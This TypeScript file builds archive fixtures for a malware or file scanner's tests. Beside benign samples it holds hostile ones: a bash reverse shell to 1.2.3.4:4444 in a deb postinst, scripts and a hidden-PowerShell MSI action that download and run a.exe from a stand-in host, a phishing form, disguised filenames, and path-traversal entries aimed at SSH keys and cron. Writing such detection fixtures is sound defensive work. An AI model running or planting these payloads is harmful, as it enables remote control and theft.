import { gzipSync } from 'node:zlib'
import {
  make7z,
  makeCab,
  makeIso,
  makeRar,
} from '../../../analyzers/src/archive/archive-samples.ts'
import { makeElf, makePe } from '../../../analyzers/src/executable/program-samples.ts'
import { makeUdf } from '../../../analyzers/src/formats/disk/udf-sample.ts'
import { closedFiles, type Entry, files, noise, sampleFiles, sentences } from '../entry.ts'
import { cpio, deb, msi, szdd, tar } from './containers.ts'
import { docx, xlsx } from './office.ts'
import { invoicePdf } from './pdf.ts'
import { photo } from './pictures.ts'
import { shellLink } from './shell-link.ts'
import { zip } from './zip.ts'

const script =
  'var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c start http://files.example.net/a.exe",0);'
const dropper = '#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n'
const readme = sentences(6).join('\n')
const java = Buffer.concat([Buffer.from('cafebabe00000041', 'hex'), noise(300)])
const manifest = 'Manifest-Version: 1.0\r\nMain-Class: com.acme.Main\r\n\r\n'
const npmPackage = {
  'package/package.json':
    '{"name":"left-pad","version":"1.3.0","main":"index.js","scripts":{"test":"node test"}}',
  'package/index.js': 'module.exports = (text, n) => String(text).padStart(n)\n',
  'package/README.md': readme,
}
const any = /^(?:archive|script|file|shortcut|executable|mail|yara|document|page)\./

export const archiveEntries = (): Entry[] => [
  ...files('archive', 'ordinary archives', [
    [
      'documents.zip',
      zip({
        'Contract.docx': docx('Contract'),
        'Budget.xlsx': xlsx('Budget'),
        'Plan.pdf': invoicePdf('Plan'),
      }),
    ],
    ['photos.zip', zip({ 'IMG_1.jpg': photo(1), 'IMG_2.jpg': photo(2) }, { stored: /\.jpg$/ })],
    [
      'mac.zip',
      zip(
        { 'Letter.docx': docx('Letter'), '__MACOSX/._Letter.docx': noise(120) },
        { isStreamed: true },
      ),
    ],
    [
      'website.zip',
      zip({
        'index.html': `<html><body>${readme}</body></html>`,
        'js/app.js': 'document.title = "x"\n',
        'js/jquery.min.js': '/*! jQuery */!function(e){}(window);',
        'css/style.css': 'body{}',
        'install.bat': '@echo off\r\necho done\r\n',
      }),
    ],
    [
      'application.zip',
      zip({
        'Acme/acme.exe': makePe(),
        'Acme/acme.dll': makePe(),
        'Acme/LICENSE.txt': readme,
        'Acme/README.md': readme,
        'Acme/run.cmd': '@echo off\r\nacme.exe %*\r\n',
      }),
    ],
    [
      'tool-1.4.2-windows-amd64.zip',
      zip({ 'tool.exe': makePe(), LICENSE: readme, 'README.md': readme }),
    ],
    [
      'source.zip',
      zip(
        {
          'repo-main/.gitignore': 'node_modules\n',
          'repo-main/src/index.ts': 'export const a = 1\n',
          'repo-main/build.sh': '#!/bin/sh\nmake\n',
          'repo-main/setup.ps1': 'Write-Host hello\n',
          'repo-main/gradlew.bat': '@echo off\r\n',
        },
        { comment: '0123456789abcdef0123456789abcdef01234567' },
      ),
    ],
    ['Müller Übersicht.zip', zip({ 'Übersicht für Müller.txt': readme })],
    [
      'names.zip',
      zip({
        'notes: today.txt': readme,
        'a..b.txt': readme,
        '...rest.txt': readme,
        'v1..v2/diff.txt': readme,
      }),
    ],
    ['B::Hooks::OP::Check.3pm.gz', gzipSync('.TH "B::Hooks" 3pm\n.SH NAME\nB::Hooks\n')],
    ['jquery.min.js.gz', gzipSync('/*! jQuery v3.7.1 */!function(e,t){"use strict"}(window);')],
    ['app.3f2a9c.js.gz', gzipSync('console.log("hello")\n')],
    [
      'access.log.2.gz',
      gzipSync(
        `${'192.0.2.4 - - [01/Jun/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"\n'.repeat(20)}`,
      ),
    ],
    ['dump.sql.gz', gzipSync('CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\n')],
    ['install.sh.gz', gzipSync('#!/bin/sh\nset -e\nmake install\n')],
    [
      'changelog.Debian.gz',
      gzipSync('acme (1.0-1) unstable; urgency=medium\n\n  * Initial release.\n'),
    ],
    ['left-pad-1.3.0.tgz', gzipSync(tar(npmPackage))],
    [
      'requests-2.32.0.tar.gz',
      gzipSync(
        tar({
          'requests-2.32.0/setup.py': 'from setuptools import setup\nsetup(name="requests")\n',
          'requests-2.32.0/requests/__init__.py': 'import urllib3\n',
          'requests-2.32.0/README.md': readme,
        }),
      ),
    ],
    [
      'requests-2.32.0-py3-none-any.whl',
      zip({
        'requests/__init__.py': 'import urllib3\n',
        'requests-2.32.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: requests\n',
        'requests-2.32.0.dist-info/RECORD': 'requests/__init__.py,sha256=x,1\n',
      }),
    ],
    [
      'backup.tar',
      tar({
        'home/jane/notes.txt': readme,
        'home/jane/.bashrc': 'alias ll="ls -l"\n',
        'home/jane/bin/tool': makeElf(),
      }),
    ],
    [
      'site.tar.gz',
      gzipSync(
        tar({
          './index.html': '<html></html>',
          './deploy.sh': '#!/bin/sh\nrsync -a . web:/var/www\n',
        }),
      ),
    ],
    [
      'acme_1.0-1_amd64.deb',
      deb(
        {
          './control':
            'Package: acme\nVersion: 1.0-1\nArchitecture: amd64\nMaintainer: Jane <jane@example.org>\nDescription: tool\n',
          './postinst': '#!/bin/sh\nset -e\nsystemctl daemon-reload || true\n',
        },
        { './usr/bin/acme': makeElf(), './usr/share/doc/acme/copyright': readme },
      ),
    ],
    [
      'library.jar',
      zip({
        'META-INF/MANIFEST.MF': manifest,
        'com/acme/Main.class': java,
        'com/acme/messages.properties': 'a=b\n',
      }),
    ],
    [
      'app.war',
      zip({
        'META-INF/MANIFEST.MF': manifest,
        'WEB-INF/web.xml': '<web-app/>',
        'WEB-INF/classes/A.class': java,
        'index.jsp': '<html><body><%= 1 %></body></html>',
      }),
    ],
    [
      'app.apk',
      zip(
        {
          'AndroidManifest.xml': noise(400),
          'classes.dex': Buffer.concat([Buffer.from('dex\n035\0'), noise(400)]),
          'resources.arsc': noise(200),
          'META-INF/MANIFEST.MF': manifest,
          'lib/arm64-v8a/libapp.so': makeElf(),
        },
        { stored: /arsc$/ },
      ),
    ],
    [
      'extension.xpi',
      zip({
        'manifest.json':
          '{"manifest_version":3,"name":"Dark","version":"1.0","background":{"scripts":["bg.js"]}}',
        'bg.js': 'browser.runtime.onInstalled.addListener(() => {})\n',
      }),
    ],
    [
      'package.nupkg',
      zip({
        'Acme.nuspec': '<package/>',
        'lib/net8.0/Acme.dll': makePe(),
        '[Content_Types].xml': '<Types/>',
        'tools/install.ps1': 'param($installPath)\n',
      }),
    ],
    [
      'book.epub',
      zip(
        {
          mimetype: 'application/epub+zip',
          'META-INF/container.xml': '<container/>',
          'OEBPS/ch1.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body>${readme}</body></html>`,
        },
        { stored: /^mimetype$/ },
      ),
    ],
    ['notes.7z', make7z('notes.txt', Buffer.from(readme))],
    [
      'drivers.cab',
      makeCab('printer.inf', Buffer.from('[Version]\r\nSignature="$Windows NT$"\r\n')),
    ],
    ['scans.rar', makeRar('scan.txt', Buffer.from(readme))],
    ['disc.iso', makeIso('README.TXT', Buffer.from(readme))],
    [
      'bridge.iso',
      makeUdf(
        { 'Read me.txt': Buffer.from(readme), 'Holiday.jpg': photo(1) },
        { disc: makeIso('README.TXT', Buffer.from(readme)) },
      ),
    ],
    [
      'initrd.cpio',
      cpio(
        {
          init: '#!/bin/sh\nmount -t proc none /proc\nexec /sbin/init\n',
          'etc/fstab': 'proc /proc proc defaults 0 0\n',
        },
        false,
      ),
    ],
    [
      'setup.msi',
      msi([
        ['SetFolder', 51, 'INSTALLDIR', '[ProgramFilesFolder]Acme'],
        ['Launch', 210, 'acme.exe', ''],
      ]),
    ],
    ['old.ex_', szdd(Buffer.from(readme))],
    [
      'fonts.zip',
      zip({
        'Inter.ttf': Buffer.concat([Buffer.from('00010000000a', 'hex'), noise(300)]),
        'OFL.txt': readme,
      }),
    ],
    ['private.zip', zip({ 'salary.txt': readme }, { password: 'a-long-and-unknown-1' })],
  ]),
  ...sampleFiles('archive', 'lure in an archive', any, [
    ['invoice.zip', zip({ 'Invoice.pdf.exe': makePe() })],
    ['scan.zip', zip({ 'Scan_001.pdf.js': script })],
    ['photo.zip', zip({ 'IMG_1.jpg': photo(1), 'IMG_2.jpg.scr': makePe() }, { isStreamed: true })],
    ['turned.zip', zip({ 'Offer\u202efdp.exe': makePe() })],
    ['spaces.zip', zip({ [`Contract.docx${' '.repeat(70)}.exe`]: makePe() })],
    [
      'parcel.7z',
      make7z('Label.pdf.vbs', Buffer.from('CreateObject("WScript.Shell").Run "calc.exe"')),
    ],
    ['order.rar', makeRar('Order.xlsx.exe', makePe())],
    ['payment.cab', makeCab('Payment.pdf.js', Buffer.from(script))],
    ['disc.iso', makeIso('INVOICE.JS', Buffer.from(script))],
    ['udf.iso', makeUdf({ 'Invoice.pdf.js': Buffer.from(script) })],
    [
      'bridge.iso',
      makeUdf(
        { 'Invoice.pdf.js': Buffer.from(script) },
        { disc: makeIso('README.TXT', Buffer.from(readme)) },
      ),
    ],
    [
      'doc.tar.gz',
      gzipSync(
        tar({
          'Document.pdf.lnk': shellLink({
            target: 'C:\\Windows\\System32\\mshta.exe',
            args: 'http://files.example.net/a',
          }),
        }),
      ),
    ],
    [
      'nested.zip',
      zip({
        'a.zip': zip({
          'b.zip': zip({ 'Bill.pdf.hta': `<html><script>${script}</script></html>` }),
        }),
      }),
    ],
    [
      'page.zip',
      zip({
        'Secure.html':
          '<html><title>Microsoft 365</title><form action="https://collect.example.net/p"><input type="password"></form></html>',
      }),
    ],
  ]),
  ...sampleFiles('archive', 'leaves its folder', any, [
    ['slip.zip', zip({ '../../../../root/.ssh/authorized_keys': 'ssh-rsa AAAA' })],
    ['slip.tar', tar({ '../../etc/cron.d/x': '* * * * * root id\n' })],
    ['windows.zip', zip({ '..\\..\\Windows\\System32\\a.dll': makePe() })],
    ['absolute.tar.gz', gzipSync(tar({ '/etc/ld.so.preload': '/tmp/a.so\n' }))],
  ]),
  ...sampleFiles('archive', 'other containers', any, [
    ['init.cpio', cpio({ 'usr/bin/update': dropper }, false)],
    ['old.cpio', cpio({ 'usr/bin/update.sh': dropper }, true)],
    ['invoice.js_', szdd(Buffer.from(script))],
    [
      'update.jar',
      zip({
        'META-INF/MANIFEST.MF': manifest,
        'a/b.class': java,
        'run.vbs':
          'CreateObject("WScript.Shell").Run "cmd /c start http://files.example.net/a.exe",0',
      }),
    ],
    [
      'photo.apk',
      zip({
        'AndroidManifest.xml': noise(300),
        'classes.dex': Buffer.concat([Buffer.from('dex\n035\0'), noise(300)]),
        'assets/run.sh': dropper,
      }),
    ],
    [
      'viewer.msi',
      msi([
        [
          'a',
          3170,
          '',
          'powershell.exe -w hidden -c "iwr http://files.example.net/a.exe -o $env:tmp\\a.exe; & $env:tmp\\a.exe"',
        ],
      ]),
    ],
    ['script.msi', msi([['b', 37, '', script]])],
    [
      'evil_1.0.deb',
      deb(
        { './control': 'Package: evil\nVersion: 1\nArchitecture: all\n', './postinst': dropper },
        { './usr/share/doc/a': 'x' },
      ),
    ],
  ]),
  ...closedFiles('archive', 'containers that stay closed', [
    [
      'mac.hqx',
      `(This file must be converted with BinHex 4.0)\r\n\r\n:${'"$&%\'()*'.repeat(30)}:\r\n`,
    ],
    [
      'phone.sis',
      Buffer.concat([Buffer.from('7a1a2010', 'hex'), Buffer.from('19040010', 'hex'), noise(600)]),
    ],
    ['data1.cab', Buffer.concat([Buffer.from('ISc('), Buffer.from('0c600001', 'hex'), noise(700)])],
    [
      'help.chm',
      Buffer.concat([
        Buffer.from('ITSF'),
        Buffer.from('0300000060000000010000', 'hex'),
        noise(900),
      ]),
    ],
    [
      'outlook.pst',
      Buffer.concat([
        Buffer.from('!BDN'),
        noise(8, 2),
        Buffer.from('SM'),
        Buffer.from('1700', 'hex'),
        noise(3000),
      ]),
    ],
    [
      'dvd.udf.iso',
      Buffer.concat([
        Buffer.alloc(32_768),
        Buffer.from('\0BEA01\x01'),
        Buffer.alloc(2041),
        Buffer.from('\0NSR02\x01'),
        Buffer.alloc(2041),
        Buffer.from('\0TEA01\x01'),
        noise(6000),
      ]),
    ],
    [
      'setup.exe',
      Buffer.concat([
        makePe(),
        Buffer.from('00000000efbeadde4e756c6c736f6674496e7374', 'hex'),
        noise(2000),
      ]),
    ],
    ['unknown password.zip', zip({ 'document.js': script }, { password: 'a-long-and-unknown-2' })],
  ]),
]
